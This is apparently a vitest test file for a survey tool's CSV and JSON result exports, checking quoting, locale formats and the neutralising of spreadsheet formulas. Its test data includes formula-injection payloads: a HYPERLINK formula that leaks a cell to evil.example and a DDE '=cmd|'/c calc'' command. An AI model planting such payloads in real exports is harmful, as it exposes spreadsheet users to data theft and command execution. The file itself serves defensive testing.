// Result exports as files: what a spreadsheet would do with them. Read back with a small RFC 4180
// reader (no CSV parser is installed, and csv-stringify's own would share its assumptions).
import { describe, it, expect } from "vitest";
import fc from "fast-check";
import { resultsCsv, resultsJson, mapMatrixCsv, CSV_HEADERS, type ExportRow, type ExportMap } from "../src/exports/results.ts";

/** RFC 4180: fields separated by `sep`, records by LF or CRLF, "…" quoting with "" for a quote. */
function readCsv(text: string, sep: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = "";
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (c === '"') {
        quoted = false;
        i++;
        if (i < text.length && text[i] !== sep && text[i] !== "\n" && text.slice(i, i + 2) !== "\r\n") throw new Error(`text after a closing quote at ${i}`);
      } else {
        field += c;
        i++;
      }
      continue;
    }
    if (c === '"' && field === "") {
      quoted = true;
      i++;
    } else if (c === sep) {
      record.push(field);
      field = "";
      i++;
    } else if (c === "\n" || text.slice(i, i + 2) === "\r\n") {
      record.push(field);
      records.push(record);
      record = [];
      field = "";
      i += c === "\n" ? 1 : 2;
    } else if (c === '"' || c === "\r" || c === "\n") {
      throw new Error(`unquoted ${JSON.stringify(c)} at ${i}`);
    } else {
      field += c;
      i++;
    }
  }
  if (quoted) throw new Error("unterminated quote");
  if (field !== "" || record.length) {
    record.push(field);
    records.push(record);
  }
  return records;
}

const BOM = "\uFEFF";
/** What a spreadsheet treats as the start of a formula (with the full-width forms Numbers folds). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

function row(over: Partial<ExportRow> = {}): ExportRow {
  return { round: 1, instrument: "vichealth-checklist", version: 1, section: "s1", item: "s1.1", statement: "Partners share the need", n: 3, mean: 4, sd: Math.sqrt(2 / 3), min: 3, max: 5, divergent: false, withheld: false, choices: null, mostCommon: null, dontKnow: null, ...over };
}

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "＝1+1"];

describe("results as CSV", () => {
  it("keeps the English header other tools read, with commas, decimal points and empty cells", () => {
    const csv = resultsCsv([row(), row({ round: 2, n: null, mean: null, sd: null, min: null, max: null, withheld: true, divergent: true })], "en");
    expect(csv.startsWith(BOM)).toBe(false);
    expect(csv.split("\n")).toEqual([
      "round,instrument,version,section,item,statement,n,mean,sd,min,max,divergent,withheld,choices,most_common,dont_know",
      "1,vichealth-checklist,1,s1,s1.1,Partners share the need,3,4,0.82,3,5,0,0,,,",
      "2,vichealth-checklist,1,s1,s1.1,Partners share the need,,,,,,1,1,,,",
      "",
    ]);
  });

  it("gives a choice statement (Activity 1's purposes) its count per level and the most common one, in CSV and JSON", () => {
    const purpose = row({ instrument: "vichealth-purpose", section: "purposes", item: "purposes.p1", statement: "Share data on children's health", n: 6, mean: null, sd: null, min: null, max: null, choices: [["networking", 1], ["coordinating", 4], ["cooperating", 1], ["collaborating", 0]], mostCommon: "coordinating" });
    expect(resultsCsv([purpose], "en").split("\n")[1]).toBe("1,vichealth-purpose,1,purposes,purposes.p1,Share data on children's health,6,,,,,0,0,networking=1 coordinating=4 cooperating=1 collaborating=0,coordinating,");
    const json = JSON.parse(resultsJson([purpose, row()], "en", { partnership: "Sund By", exportedAt: "2026-12-01T09:00:00.000Z" })) as { rounds: { statements: Record<string, unknown>[] }[] };
    expect(json.rounds[0]!.statements[0]).toMatchObject({ choices: { networking: 1, coordinating: 4, cooperating: 1, collaborating: 0 }, mostCommon: "coordinating" });
    expect(json.rounds[1]!.statements[0]).not.toHaveProperty("choices");
  });

  it("adds a round's partner map to the JSON, per pair by name, beside that round's statements", () => {
    const link = row({ instrument: "vichealth-map", section: "map", item: "map.o0-o1.now", statement: "Region Syd ↔ Kolding Kommune", n: 4, mean: null, sd: null, min: null, max: null });
    const pairs: ExportMap["pairs"] = [
      { between: ["Region Syd", "Kolding Kommune"] as [string, string], n: 4, withheld: false, now: "networking", want: "cooperating", gap: 2, missing: false, divergent: false, counts: { now: { networking: 3, coordinating: 1 }, want: { cooperating: 4 } } },
      { between: ["Region Syd", "Sund Forening"] as [string, string], n: 2, withheld: true, now: null, want: null, gap: null, missing: false, divergent: false, counts: { now: {}, want: {} } },
    ];
    const json = JSON.parse(resultsJson([row(), link], "en", { partnership: "Sund By", exportedAt: "2026-12-01T09:00:00.000Z" }, [{ round: 1, instrument: "vichealth-map", version: 1, organisations: ["Region Syd", "Kolding Kommune", "Sund Forening"], pairs }]));
    expect(json.rounds).toHaveLength(2);
    expect(json.rounds[0]).not.toHaveProperty("map");
    expect(json.rounds[1].map).toEqual({ organisations: ["Region Syd", "Kolding Kommune", "Sund Forening"], pairs });
    // The same map as a matrix: symmetric, empty on the diagonal and where a pair is withheld.
    const map = { round: 1, instrument: "vichealth-map", version: 1, organisations: ["Region Syd", "Kolding Kommune", "Sund Forening"], pairs };
    const label = (v: string) => ({ networking: "Netværk", cooperating: "Samarbejde om ressourcer" })[v] ?? v;
    expect(mapMatrixCsv(map, label, "da").slice(1).split("\n")).toEqual([
      ";Region Syd;Kolding Kommune;Sund Forening",
      "Region Syd;;Netværk → Samarbejde om ressourcer;",
      "Kolding Kommune;Netværk → Samarbejde om ressourcer;;",
      "Sund Forening;;;",
      "",
    ]);
  });

  it("in Danish: a UTF-8 BOM, semicolons, decimal commas and Danish column names", () => {
    const csv = resultsCsv([row({ statement: "Vi deler behovet, én gang for alle", mean: 3.456, sd: 1.2 })], "da");
    expect(csv.startsWith(BOM)).toBe(true);
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [header, line] = csv.slice(1).split("\n");
    expect(header).toBe(CSV_HEADERS.da.join(";"));
    expect(header).toBe("runde;instrument;version;afsnit;udsagn-id;udsagn;n;gennemsnit;standardafvigelse;min;maks;uenighed;tilbageholdt;valg;hyppigst;ved-ikke");
    // A comma in the text needs no quotes when the separator is a semicolon.
    expect(line).toBe("1;vichealth-checklist;1;s1;s1.1;Vi deler behovet, én gang for alle;3;3,46;1,2;3;5;0;0;;;");
  });

  it("neutralises every formula a statement could carry, in both languages", () => {
    for (const lang of ["en", "da"] as const) {
      const rows = HOSTILE.map((statement, i) => row({ item: `s1.${i + 1}`, statement }));
      const csv = resultsCsv(rows, lang);
      const cells = readCsv(csv.replace(/^\uFEFF/, ""), lang === "da" ? ";" : ",");
      expect(cells).toHaveLength(1 + HOSTILE.length);
      for (const [i, text] of HOSTILE.entries()) {
        expect(cells[i + 1]![5], `${lang}: ${JSON.stringify(text)}`).toBe(`'${text}`);
        for (const cell of cells[i + 1]!) expect(cell).not.toMatch(FORMULA_START);
      }
      expect(csv).toContain(lang === "en" ? `,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",` : `;"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")";`);
    }
  });

  it("neutralises formulas in ids too (a custom instrument names its own sections and items)", () => {
    const csv = resultsCsv([row({ instrument: "=cmd|'/c calc'!A1", section: "+s", item: "@i" })], "en");
    expect(readCsv(csv, ",")[1]!.slice(1, 5)).toEqual(["'=cmd|'/c calc'!A1", "1", "'+s", "'@i"]);
  });

  it("keeps negative numbers numbers (no text marker before their minus)", () => {
    const [, en] = resultsCsv([row({ mean: -1.234 })], "en").split("\n");
    const [, da] = resultsCsv([row({ mean: -1.234 })], "da").split("\n");
    expect(en).toContain(",3,-1.23,0.82,");
    expect(da).toContain(";3;-1,23;0,82;");
  });

  it("quotes quotes, separators and line breaks in text, and reads back the same", () => {
    const text = 'Roles are "clear"; agreed, mostly\nsecond line\r\nthird';
    for (const lang of ["en", "da"] as const) {
      const csv = resultsCsv([row({ statement: text })], lang);
      const sep = lang === "da" ? ";" : ",";
      const cells = readCsv(csv.replace(/^\uFEFF/, ""), sep);
      expect(cells).toHaveLength(2);
      expect(cells[1]![5]).toBe(text);
      expect(cells[1]).toHaveLength(16);
    }
  });

  it("for any text: reads back the same (a formula with its marker) and no cell starts a formula", () => {
    const cellText = fc.string({ unit: "binary", maxLength: 40 });
    const anyRow = fc.record({
      round: fc.integer({ min: 1, max: 999 }),
      instrument: cellText,
      version: fc.integer({ min: 1, max: 99 }),
      section: cellText,
      item: cellText,
      // Texts that start like formulas, and anything else at all.
      statement: fc.oneof(cellText, fc.tuple(fc.constantFrom(...HOSTILE, "=", "+", "-", "@", "\t", "\r", '"', ";", ",", "\n", "'"), cellText).map(([a, b]) => a + b)),
      n: fc.option(fc.integer({ min: 0, max: 500 })),
      mean: fc.option(fc.double({ min: 0, max: 175, noNaN: true })),
      sd: fc.option(fc.double({ min: 0, max: 10, noNaN: true })),
      min: fc.option(fc.integer({ min: 0, max: 5 })),
      max: fc.option(fc.integer({ min: 0, max: 5 })),
      divergent: fc.boolean(),
      withheld: fc.boolean(),
      choices: fc.option(fc.array(fc.tuple(cellText, fc.integer({ min: 0, max: 50 })), { maxLength: 5 })),
      mostCommon: fc.option(cellText),
      dontKnow: fc.option(fc.integer({ min: 0, max: 50 })),
    });
    fc.assert(
      fc.property(fc.array(anyRow, { maxLength: 8 }), fc.constantFrom("en" as const, "da" as const), (rows, lang) => {
        const csv = resultsCsv(rows, lang);
        expect(csv.startsWith(BOM)).toBe(lang === "da");
        const cells = readCsv(csv.replace(/^\uFEFF/, ""), lang === "da" ? ";" : ",");
        expect(cells).toHaveLength(rows.length + 1);
        const marked = (s: string) => (FORMULA_START.test(s) ? `'${s}` : s);
        rows.forEach((r, i) => {
          const got = cells[i + 1]!;
          expect(got).toHaveLength(16);
          expect(got[14]).toBe(r.mostCommon === null ? "" : marked(r.mostCommon));
          expect(got[15]).toBe(r.dontKnow === null ? "" : String(r.dontKnow));
          expect([got[1], got[3], got[4], got[5]]).toEqual([r.instrument, r.section, r.item, r.statement].map(marked));
          for (const cell of got) expect(cell).not.toMatch(FORMULA_START);
          const num = (s: string) => (s === "" ? null : Number(s.replace(",", ".")));
          expect(num(got[7]!)).toBe(r.mean === null ? null : Math.round(r.mean * 100) / 100 + 0);
          expect(got[11]).toBe(r.divergent ? "1" : "0");
        });
      }),
      { numRuns: 400 },
    );
  });
});

describe("results as JSON", () => {
  it("groups statements by round, numbers as numbers, no value as null", () => {
    const rows = [row(), row({ item: "s1.2", statement: "=1+1" }), row({ round: 2, n: null, mean: null, sd: null, min: null, max: null, withheld: true })];
    const json = JSON.parse(resultsJson(rows, "da", { partnership: "Sund By", exportedAt: "2026-12-01T09:00:00.000Z" }));
    expect(json).toEqual({
      partnership: "Sund By",
      exportedAt: "2026-12-01T09:00:00.000Z",
      language: "da",
      rounds: [
        {
          round: 1,
          instrument: "vichealth-checklist",
          version: 1,
          statements: [
            { section: "s1", item: "s1.1", statement: "Partners share the need", n: 3, mean: 4, sd: 0.82, min: 3, max: 5, divergent: false, withheld: false },
            // JSON is no spreadsheet: the text is kept as it is.
            { section: "s1", item: "s1.2", statement: "=1+1", n: 3, mean: 4, sd: 0.82, min: 3, max: 5, divergent: false, withheld: false },
          ],
        },
        { round: 2, instrument: "vichealth-checklist", version: 1, statements: [{ section: "s1", item: "s1.1", statement: "Partners share the need", n: null, mean: null, sd: null, min: null, max: null, divergent: false, withheld: true }] },
      ],
    });
  });
});
